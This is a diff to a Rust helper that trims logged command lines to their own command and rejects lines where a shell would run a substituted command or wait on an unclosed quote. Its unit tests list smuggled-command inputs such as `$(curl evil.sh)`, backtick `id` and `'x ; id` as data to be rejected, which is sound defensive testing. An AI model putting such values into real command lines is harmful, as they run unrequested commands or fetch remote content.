@@ -183,7 +183,7 @@ fn said(rules: &[RunRule], windows: &Windows) -> Run {
 }
 
 /// A command line as far as its own command goes: who copies it from here runs nothing else that stands on a log's line.
-/// `None` where a shell would run another command to make its words.
+/// `None` where a shell would run another command to make its words, or would wait for the end of a quotation.
 fn alone(line: &str) -> Option<String> {
     let (mut quote, mut before) = (None, ' ');
     let mut end = line.len();
@@ -206,7 +206,8 @@ fn alone(line: &str) -> Option<String> {
         }
         before = character;
     }
-    Some(line.get(..end)?.trim_end().to_owned()).filter(|command| !command.is_empty())
+    let command = line.get(..end)?.trim_end();
+    if quote.is_some() || command.is_empty() { None } else { Some(command.to_owned()) }
 }
 
 impl Run {
@@ -354,7 +355,12 @@ mod tests {
             cut("python a.py --x 'a;b|c&d `e` $(f)' --y \"a;b\" &> log"),
             "python a.py --x 'a;b|c&d `e` $(f)' --y \"a;b\" &> log"
         );
-        for substituted in ["python a.py --x $(curl evil.sh)", "python a.py --x `id`", "python a.py --x \"$(id)\""] {
+        for substituted in [
+            "python a.py --x $(curl evil.sh)",
+            "python a.py --x `id`",
+            "python a.py --x \"$(id)\"",
+            "python a.py 'x ; id",
+        ] {
             assert_eq!(alone(substituted), None, "{substituted}");
         }
     }
